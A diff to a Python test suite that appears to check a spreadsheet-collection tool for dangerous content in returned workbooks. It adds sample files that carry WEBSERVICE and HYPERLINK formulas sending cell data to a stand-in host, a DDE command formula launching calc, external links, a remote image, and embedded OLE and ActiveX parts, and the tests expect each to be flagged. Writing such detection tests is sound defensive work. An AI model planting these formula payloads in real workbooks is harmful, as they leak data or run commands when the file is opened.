@@ -16,6 +16,8 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.workbook.defined_name import DefinedName
 from roundtrip_helpers import fill_openpyxl, plan_answers
 
 from sheetflow.collect.run import collect
@@ -166,6 +168,49 @@ def _inconsistent(pack):
     return change
 
 
+def _put(sheet, cell, value):
+    """A change writing ``value`` (a formula when it starts "=") into any sheet."""
+    def change(wb):
+        wb[sheet][cell].value = value
+    return change
+
+
+def _leaky_name(wb):
+    wb.defined_names["Leak"] = DefinedName(
+        "Leak", attr_text='WEBSERVICE("https://collector.example/?"&Scoring!C13)')
+
+
+def _leaky_rule(wb):
+    rule = FormulaRule(formula=['LEN(WEBSERVICE("https://collector.example/"))>0'])
+    wb[L.SCORING_SHEET].conditional_formatting.add("H10", rule)
+
+
+_RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+         'package/2006/relationships">{}</Relationships>')
+_REL = ('<Relationship Id="{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'relationships/{}" Target="{}" TargetMode="External"/>')
+_MAIN_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+
+def _external_link(src, dst):
+    _zip_with(src, dst, {
+        "xl/externalLinks/externalLink1.xml":
+            f'<?xml version="1.0"?><externalLink {_MAIN_NS}/>'.encode(),
+        "xl/externalLinks/_rels/externalLink1.xml.rels": _RELS.format(_REL.format(
+            "rId1", "externalLinkPath", "https://collector.example/book.xlsx")).encode()})
+
+
+def _linked_picture(src, dst):
+    """A picture fetched from outside when the file opens, beside a plain hyperlink."""
+    rels = _REL.format("rId1", "image", "https://collector.example/pixel.png") + \
+        _REL.format("rId2", "hyperlink", "https://example.org/")
+    _zip_with(src, dst, {"xl/worksheets/_rels/sheet1.xml.rels": _RELS.format(rels).encode()})
+
+
+def _part(name, data=b"\x00" * 64):
+    return lambda src, dst: _zip_with(src, dst, {name: data})
+
+
 @pytest.fixture(scope="module")
 def batch(tmp_path_factory):
     root = tmp_path_factory.mktemp("corpus") / "study"
@@ -224,6 +269,19 @@ def batch(tmp_path_factory):
         "error-value": (_error(count), "error-value"),
         "sheet-copied": (lambda wb: wb.copy_worksheet(wb[L.SCORING_SHEET]),
                          "sheet-duplicated"),
+        # what acts when the returned original is opened in Excel, outside answer cells
+        "webservice-text-line": (_put(L.SCORING_SHEET, "H10", '=WEBSERVICE('
+                                      '"https://collector.example/?"&C13)'),
+                                 "formula-reaches-out"),
+        "hyperlink-instructions": (_put(L.INSTRUCTIONS_SHEET, "D3", '=HYPERLINK('
+                                        '"https://collector.example/?"&Scoring!C13,"help")'),
+                                   "formula-reaches-out"),
+        "external-ref-hidden-sheet": (_put(L.IDENTITY_SHEET, "F1", "='[other.xlsx]Sheet1'!A1"),
+                                      "external-reference"),
+        "dde-formula": (_put(L.SCORING_SHEET, "H10", "=cmd|' /c calc'!A0"),
+                        "formula-reaches-out"),
+        "leaky-name": (_leaky_name, "formula-reaches-out"),
+        "leaky-rule": (_leaky_rule, "formula-reaches-out"),
     }
     returns = root / "returns"
     returns.mkdir(exist_ok=True)
@@ -246,6 +304,13 @@ def batch(tmp_path_factory):
         "zip-bomb": (_bomb, "zip-bomb"),
         "entities": (_entities, "xml-dtd"),
         "strict": (_strict, "strict-ooxml"),
+        "external-link-part": (_external_link, "external-reference"),
+        "linked-picture": (_linked_picture, "external-reference"),
+        "data-connection": (_part("xl/connections.xml", f'<?xml version="1.0"?><connections '
+                                  f'{_MAIN_NS}/>'.encode()), "data-connection"),
+        "query-table": (_part("xl/queryTables/queryTable1.xml"), "data-connection"),
+        "ole-object": (_part("xl/embeddings/oleObject1.bin"), "embedded-object"),
+        "activex": (_part("xl/activeX/activeX1.bin"), "activex-control"),
     }
     for name, (make, code) in raw.items():
         suffix = ".xlsm" if name == "macros" else ".xls" if name == "legacy-xls" else ".xlsx"
@@ -303,7 +368,10 @@ CASES = ["out-of-domain", "trailing-space", "five-point-zero-text", "number-as-t
          "encrypted", "macros", "ods", "zip-bomb", "entities", "twice-a", "twice-b",
          "other-rows", "valid-ev03-copy", "underscore-digits", "exponent-text",
          "huge-number", "error-value", "sheet-copied", "strict", "folder", "outside-link",
-         "bytes-\\xff", "line\\x0abreak"]
+         "bytes-\\xff", "line\\x0abreak", "webservice-text-line", "hyperlink-instructions",
+         "external-ref-hidden-sheet", "dde-formula", "leaky-name", "leaky-rule",
+         "external-link-part", "linked-picture", "data-connection", "query-table",
+         "ole-object", "activex"]
 
 
 @pytest.mark.parametrize("kind", CASES)
@@ -377,3 +445,45 @@ def test_a_file_whose_answers_were_not_read_is_not_called_complete(batch):
     sheet = batch["outputs"]["xlsx"]["Files"]
     row = next(r for r in sheet if r[0] == "sheet-removed.xlsx")
     assert row[5] is None
+
+
+ACTS_IN_EXCEL = {  # file -> (sheet, cell, value shown) of what acts when it is opened
+    "webservice-text-line.xlsx": (L.SCORING_SHEET, "H10", "=WEBSERVICE("),
+    "hyperlink-instructions.xlsx": (L.INSTRUCTIONS_SHEET, "D3", "=HYPERLINK("),
+    "external-ref-hidden-sheet.xlsx": (L.IDENTITY_SHEET, "F1", "='[other.xlsx]Sheet1'!A1"),
+    "dde-formula.xlsx": (L.SCORING_SHEET, "H10", "=cmd|"),
+    "leaky-name.xlsx": ("", "", "=WEBSERVICE("),
+    "leaky-rule.xlsx": (L.SCORING_SHEET, "", "=LEN(WEBSERVICE("),
+    "external-link-part.xlsx": ("", "", "https://collector.example/book.xlsx"),
+    "linked-picture.xlsx": ("", "", "https://collector.example/pixel.png"),
+    "data-connection.xlsx": ("", "", "xl/connections.xml"),
+    "query-table.xlsx": ("", "", "xl/queryTables/queryTable1.xml"),
+    "ole-object.xlsx": ("", "", "xl/embeddings/oleObject1.bin"),
+    "activex.xlsx": ("", "", "xl/activeX/activeX1.bin"),
+}
+
+
+def test_what_acts_in_excel_is_named_where_it_is_and_the_file_is_still_checked(batch):
+    """A formula calling out, a link to another file, a data connection, an object or
+    control, outside the answer cells: named once each, with its sheet and cell (or
+    part), as an error that says not to open the file but to ask for a clean copy; the
+    file is still identified and its answers read, and its ratings are not used."""
+    issues = batch["first"].report.issues
+    files = {f.file: f for f in batch["first"].report.files}
+    for name, (sheet, cell, shown) in ACTS_IN_EXCEL.items():
+        found = [i for i in issues if i.file == name and i.code == batch["expected"][name]]
+        assert len(found) == 1, (name, found)
+        problem = found[0]
+        assert (problem.severity, problem.sheet, problem.cell) == ("error", sheet, cell)
+        assert problem.value.startswith(shown), (name, problem.value)
+        assert "Do not open this file in Excel" in problem.message
+        assert "clean copy" in problem.message and problem.rater == "EV-01"
+        assert files[name].rater == "EV-01" and files[name].answers_read, name
+        assert not files[name].used
+
+
+def test_a_plain_file_carries_nothing_that_acts_in_excel(batch):
+    codes = {"formula-reaches-out", "external-reference", "data-connection",
+             "embedded-object", "activex-control"}
+    plain = {"valid-ev03.xlsx", "valid-ev03-copy.xlsx", "formula.xlsx", "out-of-domain.xlsx"}
+    assert not [i for i in batch["first"].report.issues if i.file in plain and i.code in codes]
